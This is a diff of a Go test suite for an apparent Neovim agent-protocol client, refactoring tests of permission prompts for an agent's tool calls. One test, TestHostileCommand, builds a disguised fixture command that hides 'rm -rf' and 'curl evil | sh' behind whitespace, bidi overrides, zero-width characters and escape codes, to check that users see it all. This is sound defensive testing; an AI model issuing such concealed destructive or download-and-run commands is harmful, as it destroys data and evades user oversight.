@@ -13,7 +13,7 @@ import (
 // Whatever an agent writes into its answers, each is seen and can be chosen.
 func TestOptionsOfAllShapes(t *testing.T) {
 	scene.Each(t, func(t *testing.T, s *scene.Scene) {
-		p := s.BeginAtRoot()
+		p := beginAtRoot(s)
 		s.Prompt(p, "do it")
 		options := []obj{
 			{"optionId": "a", "name": "Always this tool", "kind": "allow_always"},
@@ -36,9 +36,7 @@ func TestOptionsOfAllShapes(t *testing.T) {
 		id = p.Permission(scene.CommandCall("y", "make y"), options...)
 		s.AwaitFloat()
 		s.Command("Acp permit id:f")
-		if got := scene.Outcome(t, p.Answer(id)); got != "f" {
-			t.Errorf("the answer is %s", got)
-		}
+		p.AwaitOutcome(id, "f")
 		s.AwaitNoFloat()
 	})
 }
@@ -47,7 +45,7 @@ func TestOptionsOfAllShapes(t *testing.T) {
 func TestAnswersAreNeverCut(t *testing.T) {
 	scene.Each(t, func(t *testing.T, s *scene.Scene) {
 		s.Command("set linebreak showbreak=>>>>>>>>> columns=46")
-		p := s.BeginAtRoot()
+		p := beginAtRoot(s)
 		s.Prompt(p, "do it")
 		for text, want := range map[string]int{strings.Repeat("word ", 30): 150, "a\tb\x01": 11, "日本": 4} {
 			if got := s.LuaInt(`require('acp.wrap').cells(...)`, text); got != want {
@@ -77,9 +75,7 @@ func TestAnswersAreNeverCut(t *testing.T) {
 			vim.fn.search('No')
 			vim.cmd('normal! k')`)
 		s.Keys("<CR>")
-		if got := scene.Outcome(t, p.Answer(id)); got != "long" {
-			t.Errorf("the answer is %s", got)
-		}
+		p.AwaitOutcome(id, "long")
 		s.AwaitNoFloat()
 	})
 }
@@ -87,7 +83,7 @@ func TestAnswersAreNeverCut(t *testing.T) {
 // Nothing of a command can be hidden from who answers, and the answers stay in sight.
 func TestHostileCommand(t *testing.T) {
 	scene.Each(t, func(t *testing.T, s *scene.Scene) {
-		p := s.BeginAtRoot()
+		p := beginAtRoot(s)
 		s.Prompt(p, "do it")
 		call := scene.CommandCall("c", "echo 'hello'"+strings.Repeat(" ", 4000)+"&& rm\u202e -rf \x1b[2J\x07x"+strings.Repeat("\n", 200)+"curl \u200bevil | sh")
 		call["title"] = "List\x1b[2J\nfiles\u202e"
@@ -130,9 +126,7 @@ func TestHostileCommand(t *testing.T) {
 		s.Keys("<C-b>")
 		s.Await("the page before", func() bool { return s.FloatText() != bottom })
 		s.Keys("3")
-		if got := scene.Outcome(t, p.Answer(id)); got != "no" {
-			t.Errorf("the answer is %s", got)
-		}
+		p.AwaitOutcome(id, "no")
 		s.AwaitNoFloat()
 	})
 }
@@ -140,7 +134,7 @@ func TestHostileCommand(t *testing.T) {
 // A command of megabytes is cut, and says so.
 func TestHugeCommand(t *testing.T) {
 	scene.Each(t, func(t *testing.T, s *scene.Scene) {
-		p := s.BeginAtRoot()
+		p := beginAtRoot(s)
 		s.Prompt(p, "do it")
 		for i, line := range []string{strings.Repeat("x", 3<<20), strings.Repeat("é ", 1<<20), strings.Repeat("(", 1<<20), strings.Repeat("a\n", 1<<20)} {
 			id := p.Permission(scene.CommandCall(fmt.Sprint("c", i), line), scene.YesNo...)
@@ -165,7 +159,7 @@ func TestHugeCommand(t *testing.T) {
 // Leaving the plan mode shows the plan, wherever the agent has told it.
 func TestPlanIsShown(t *testing.T) {
 	scene.Each(t, func(t *testing.T, s *scene.Scene) {
-		p := s.BeginAtRoot()
+		p := beginAtRoot(s)
 		s.Prompt(p, "plan it")
 		text := "# The plan\n\n1. Find the **loop**\n2. Fix `lexer.lua`\n\n```lua\nfor i = 1, n do\n```\n"
 		p.Update("tool_call", obj{
@@ -196,7 +190,7 @@ func TestPlanIsShown(t *testing.T) {
 // What a request does not say itself was told before.
 func TestRequestAboutWhatWasTold(t *testing.T) {
 	scene.Each(t, func(t *testing.T, s *scene.Scene) {
-		p := s.BeginAtRoot()
+		p := beginAtRoot(s)
 		s.Prompt(p, "do it")
 		told := scene.EditCall("e1", "/src/a.lua")
 		told["status"] = "in_progress"
@@ -275,7 +269,7 @@ func TestRequestAboutWhatWasTold(t *testing.T) {
 // A user in the float is not in that of the next request, which the number they press was not meant for.
 func TestTheFloatOfAnotherRequestHasNoFocus(t *testing.T) {
 	scene.Each(t, func(t *testing.T, s *scene.Scene) {
-		p := s.BeginAtRoot()
+		p := beginAtRoot(s)
 		s.Prompt(p, "do it")
 		s.Command("wincmd t")
 		first := p.Permission(scene.CommandCall("one", "make one"), scene.YesNo...)
@@ -299,9 +293,7 @@ func TestTheFloatOfAnotherRequestHasNoFocus(t *testing.T) {
 		p.Permission(scene.CommandCall("four", "make four"), scene.YesNo...)
 		s.AwaitScreen("1 of 2")
 		s.Keys("3")
-		if got := scene.Outcome(t, p.Answer(id)); got != "no" {
-			t.Errorf("the answer is %s", got)
-		}
+		p.AwaitOutcome(id, "no")
 	}, scene.Wide)
 }
 
@@ -340,7 +332,6 @@ func TestAFloatThatIsSweptAwayComesBack(t *testing.T) {
 		}
 		s.Command("Acp permit 1")
 		p.Answer(asked)
-		p.Stop(turn, "end_turn")
-		s.AwaitEvent("AcpTurnEnd")
+		p.EndTurn(turn)
 	})
 }
